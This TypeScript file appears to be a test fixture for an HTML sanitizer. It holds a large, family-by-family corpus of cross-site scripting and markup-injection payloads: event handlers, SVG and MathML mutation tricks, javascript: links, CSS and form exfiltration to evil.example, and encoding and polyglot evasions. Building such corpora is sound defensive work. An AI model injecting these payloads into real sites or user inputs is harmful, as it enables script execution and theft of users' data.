// What strangers write to make a page run their words: known families, in our own selection. Every attack calls `x()` or `alert`, or asks `evil.example`.

const TAB = '&Tab;'

/** Attack strings by family. None may run, load or lead anywhere in a page that shows it. */
const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'script tags': [
    '<script>x()</script>', '<SCRIPT>x()</SCRIPT>', '<ScRiPt>x()</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script src="data:text/javascript,x()"></script>', '<script type="module">x()</script>',
    '<script>x()</script >', '<script\n>x()</script\n>', '<script/x>x()</script>', '<script>x()', '<scr<script>ipt>x()</scr</script>ipt>', '<<script>x();//<</script>', '</p><script>x()</script><p>', '<script async defer>x()</script>',
    '<script type="text/template"></script><img src=q onerror=x()>', '<script xlink:href="data:,x()"></script>', '<script charset="utf-7">+AHgAKAApAA-</script>', '"><script>x()</script>', "'><script>x()</script>", '--><script>x()</script>', ']]><script>x()</script>',
    '<script>/*<!--*/x()/*-->*/</script>', '<script><!--<script>x()</script>--></script>', '<script\u000c>x()</script>',
  ],
  'event handlers': [
    '<img src=q onerror=x()>', '<img src=q onerror="x()">', "<img src=q onerror='x()'>", '<img/src=q/onerror=x()>', '<img src=q\nonerror\n=\nx()>', '<img src=q ONERROR=x()>', '<img src=q onerror=&#120;&#40;&#41;>', '<img src=q onerror=\\u0078()>',
    '<img src=`q`onerror=x()>', '<img src="/media/art/0123456789abcdef_9x9.jpg" onerror=x()>', '<img src="/media/art/0123456789abcdef_9x9.jpg\\" onerror=x()>', '<img src=\'/media/art/0123456789abcdef_9x9.jpg" onerror="x()\'>', '<IMG """><SCRIPT>x()</SCRIPT>">',
    '<body onload=x()>', '<body/onpageshow=x()>', '<p onclick=x()>click</p>', '<p onmouseover=x() style="position:fixed;inset:0">over</p>', '<a onfocus=x() autofocus tabindex=0>a</a>', '<input autofocus onfocus=x()>', '<select autofocus onfocus=x()>', '<textarea autofocus onfocus=x()>',
    '<details open ontoggle=x()>', '<marquee onstart=x()>m</marquee>', '<video src=q onerror=x()></video>', '<audio src=q onerror=x()></audio>', '<video><source onerror=x()></video>', '<div onanimationstart=x() style="animation-name:spin">a</div>', '<p onpointerenter=x()>p</p>',
    '<b oncontentvisibilityautostatechange=x() style="content-visibility:auto">b</b>', '<div onscrollend=x() style="overflow:auto;height:9px"><br><br><br></div>', '<img src=q on error=x() onerror =x()>', '<p =onclick=x() onclick=x()>p</p>', '<p \u0000onclick=x()>p</p>', '<p o\u0000nclick=x()>p</p>', '<blockquote cite="javascript:x()" onclick=x()>q</blockquote>',
    '<div onbeforematch=x() hidden=until-found>f</div>', '<button popovertarget=p>b</button><div id=p popover onbeforetoggle=x()>d</div>', '<dialog open onclose=x()><form method=dialog><button>b</button></form></dialog>',
  ],
  'SVG': [
    '<svg onload=x()>', '<svg/onload=x()>', '<svg><script>x()</script></svg>', '<svg><script href="data:,x()"/></svg>', '<svg><animate onbegin=x() attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=x()>', '<svg><a xlink:href="javascript:x()"><text y=20>t</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:x()" /><text y=20>t</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>x()</script>"></iframe></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>x()</script></svg>#a"/></svg>',
    '<svg><style><img src=q onerror=x()></style></svg>', '<svg><desc><img src=q onerror=x()></desc></svg>', '<svg><title><style><img title="</style><img src=q onerror=x()>"></title></svg>', '<svg></p><style><a id="</style><img src=q onerror=x()>">', '<svg><image href=//evil.example/x.png onload=x()>', '<svg><discard onbegin=x()>',
  ],
  'MathML and mutation': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=q onerror=x()&gt;">', '<math><mi//xlink:href="data:x,<script>x()</script>">', '<math href="javascript:x()">m</math>', '<math><maction actiontype="statusline" xlink:href="javascript:x()">m</maction></math>', '<form><math><mtext></form><form><mglyph><style></math><img src=q onerror=x()>',
    '<math><annotation-xml encoding="text/html"><style><img src=q onerror=x()></style></annotation-xml></math>', '<noscript><p title="</noscript><img src=q onerror=x()>">', '<noembed><img title="</noembed><img src=q onerror=x()>"></noembed>', '<noframes><img title="</noframes><img src=q onerror=x()>"></noframes>', '<xmp><p title="</xmp><img src=q onerror=x()>"></xmp>',
    '<listing>&lt;img src=q onerror=x()&gt;</listing>', '<textarea><p title="</textarea><img src=q onerror=x()>"></textarea>', '<title><p title="</title><img src=q onerror=x()>"></title>', '<style><p title="</style><img src=q onerror=x()>"></style>', '<iframe><p title="</iframe><img src=q onerror=x()>"></iframe>', '<plaintext><img src=q onerror=x()>', '<table><td><svg><style><td><img src=q onerror=x()>',
    '<p id="a--><img src=q onerror=x()>">', '<!--><img src=q onerror=x()>-->', '<!---><img src=q onerror=x()>-->', '<!--!><img src=q onerror=x()>--!>', '<!-- --!><img src=q onerror=x()>', '<![CDATA[<img src=q onerror=x()>]]>', '<?xml version="1.0"?><img src=q onerror=x()>', '<?php ?><img src=q onerror=x()>', '<!DOCTYPE x [<!ENTITY y "<img src=q onerror=x()>">]>&y;', '</br title="><img src=q onerror=x()>">',
    `${'<div>'.repeat(30)}<svg><style><img src=q onerror=x()>`, '<select><template><img src=q onerror=x()></template></select>', '<table><caption><svg><title><table><img src=q onerror=x()>',
  ],
  'links that run': [
    '<a href="javascript:x()">a</a>', '<a href="JaVaScRiPt:x()">a</a>', '<a href=" javascript:x()">a</a>', '<a href="\u0001javascript:x()">a</a>', '<a href="java\tscript:x()">a</a>', '<a href="java\nscript:x()">a</a>', `<a href="java${TAB}script:x()">a</a>`, '<a href="javascript&colon;x()">a</a>', '<a href="javascript&#58;x()">a</a>', '<a href="javascript&#x3a;x()">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x()">a</a>', '<a href="&#0000106avascript:x()">a</a>', '<a href="javascript:%78()">a</a>', '<a href="javascript://example.org/%0ax()">a</a>', '<a href="https:javascript:x()">a</a>', '<a href="feed:javascript:x()">a</a>', '<a href="view-source:javascript:x()">a</a>', '<a href="vbscript:x()">a</a>', '<a href="livescript:x()">a</a>',
    '<a href="data:text/html,<script>x()</script>">a</a>', '<a href="data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=">a</a>', '<a href="blob:https://evil.example/1">a</a>', '<a href="file:///etc/passwd">a</a>', '<a href="//evil.example">a</a>', '<a href="\\\\evil.example">a</a>', '<a href="/\\evil.example">a</a>', '<a href="https://user:pass@evil.example">a</a>', '<a href="/api/user/logout">a</a>',
    '<a href="https://example.org" target=_blank rel=opener ping=//evil.example>a</a>', '<a href="https://example.org" target="top" download>a</a>', '<area href="javascript:x()" shape=default>', '<map name=m><area href="javascript:x()" coords="0,0,99,99"></map><img usemap=#m src=q>', '<a href=javascript:x()//https://example.org>a</a>', '<a href="https://example.org/&quot; onclick=&quot;x()">a</a>', '<a href=\'https://example.org/" onclick="x()\'>a</a>', '<a href="jav\u00adascript:x()">a</a>', '<a href="ｊａｖａｓｃｒｉｐｔ:x()">a</a>',
  ],
  'styles': [
    '<style>@import "//evil.example/x.css";</style>', '<style>body{background:url(//evil.example/x.png)}</style>', '<p style="background:url(javascript:x())">p</p>', '<p style="width:expression(x())">p</p>', '<p style="position:fixed;inset:0;background:url(//evil.example/x.png)">p</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=//evil.example>', '<link rel=preload as=script href=//evil.example/x.js>',
    '<link rel="dns-prefetch" href="//evil.example">', '<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>', '<p style="behavior:url(x.htc)">p</p>', '<style>input[value^=a]{background:url(//evil.example/a)}</style>', '<font color="&{x()}">f</font>', '<table background="//evil.example/x.png"><td background="javascript:x()">t</table>',
  ],
  'pages within and around': [
    '<iframe src="javascript:x()"></iframe>', '<iframe srcdoc="<script>parent.x()</script>"></iframe>', '<iframe src="data:text/html,<script>parent.x()</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<iframe/onload=x()></iframe>', '<frameset onload=x()><frame src="javascript:x()"></frameset>', '<object data="javascript:x()"></object>', '<object data="data:text/html,<script>parent.x()</script>"></object>', '<embed src="javascript:x()">', '<embed src=//evil.example/x.swf>',
    '<applet code=x archive=//evil.example/x.jar></applet>', '<base href="//evil.example/">', '<base target=_blank>', '<meta http-equiv=refresh content="0;url=javascript:x()">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<meta name=referrer content=unsafe-url>', '<portal src=//evil.example></portal>', '<fencedframe src=//evil.example></fencedframe>', '<html onclick=x()><head><title>t</title></head>',
  ],
  'forms and names': [
    '<form action="javascript:x()"><button>b</button></form>', '<form action=//evil.example><input name=password type=password></form>', '<button formaction="javascript:x()">b</button>', '<input type=image src=//evil.example/x.png onerror=x()>', '<isindex action="javascript:x()" type=image>', '<form id=x></form><button form=x formaction="javascript:x()">b</button>', '<img name=body src=q><img name=getElementById>', '<a id=__ran></a><a id=x name=y>z</a>', '<form name=cookie><input id=attributes></form>', '<p id=content class=skip-link slot=x is=y contenteditable>p</p>',
  ],
  'media and pictures from elsewhere': [
    '<img src=//evil.example/x.gif>', '<img src="https://evil.example/x.gif" width=1 height=1>', '<img src="javascript:x()">', '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=x()>">', '<img srcset="//evil.example/x.png 1x">', '<img lowsrc="javascript:x()" dynsrc="javascript:x()">', '<picture><source srcset=//evil.example/x.png><img></picture>', '<video poster=//evil.example/x.png></video>', '<video src=//evil.example/x.mp4 autoplay></video>', '<audio src=//evil.example/x.mp3 autoplay></audio>', '<track src=//evil.example/x.vtt>', '<bgsound src="javascript:x()">',
    '<img src="/media/art/../../api/user/logout">', '<img src="/media/art/0123456789abcdef_9x9.jpg?x=//evil.example">', '<img src="//evil.example/media/art/0123456789abcdef_9x9.jpg">',
  ],
  'templates and shadow': ['<template><script>x()</script></template>', '<template shadowrootmode=open><img src=q onerror=x()></template>', '<div><template shadowrootmode=open><slot></slot><script>x()</script></template></div>', '<x-y onclick=x() is=z>e</x-y>', '{{constructor.constructor("x()")()}}', '${x()}', '<%= x() %>', '<p v-on:click="x()" ng-click="x()" @click="x()" :href="x()">p</p>', '#{x()}', '{{x()}}'],
  'broken and odd signs': [
    '<', '<<', '<>', '</', '<!', '<?', '<a', '<a href', '<a href=', '<a href="', '<img src="q" onerror="x()"', '<img src=q onerror=x() //', '<p title="<img src=q onerror=x()>', "<p title='>'><img src=q onerror=x()>", '<\u0000script>x()</script>', '<scr\u0000ipt>x()</script>', '<\u2028script>x()</script>', '\u202e<img src=q onerror=x()>\u202c', '\u2066<script>x()</script>\u2069', '＜script＞x()＜/script＞', '\u{e003c}script\u{e003e}', '+ADw-script+AD4-x()+ADw-/script+AD4-', '%3Cscript%3Ex()%3C/script%3E', '&lt;script&gt;x()&lt;/script&gt;', '&amp;lt;script&amp;gt;x()&amp;lt;/script&amp;gt;', '&#60;script&#62;x()&#60;/script&#62;', '&#x3c;img src=q onerror=x()&#x3e;', '&lt;img src=q onerror=x()', '\\x3cscript\\x3ex()\\x3c/script\\x3e', '\\u003cscript\\u003ex()\\u003c/script\\u003e', '<\ud800script>x()</script>', '\ufeff<script>x()</script>', '\u001b[31m<img src=q onerror=x()>',
  ],
  'polyglots and markdown': [
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=x() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=x()//>\\x3e', '\'"></title></style></textarea></script><svg/onload=x()>', '";x();//', "');x();//", '`-x()-`', '[a](javascript:x())', '![a](javascript:x())', '![a"onerror="x()](q)', '<javascript:x()>', '[a]: javascript:x()', '<a href="[a](javascript:x())">a</a>', '```html\n<script>x()</script>\n```', '</script><script>x()</script>', '<!--<script>--></script><img src=q onerror=x()>', '</textarea></title></noscript><img src=q onerror=x()>', "'-alert(1)-'", '<img src=q onerror=alert`1`>', '<img src=q onerror="window[\'al\'+\'ert\'](1)">', '<img src=q onerror=fetch(`//evil.example`)>', '<img src=q onerror="new Image().src=`//evil.example`">',
  ],
}

/** One attack and the family it belongs to. */
export type Attack = { family: string; text: string }

/** The whole corpus. */
export const ATTACKS: readonly Attack[] = Object.entries(FAMILIES).flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
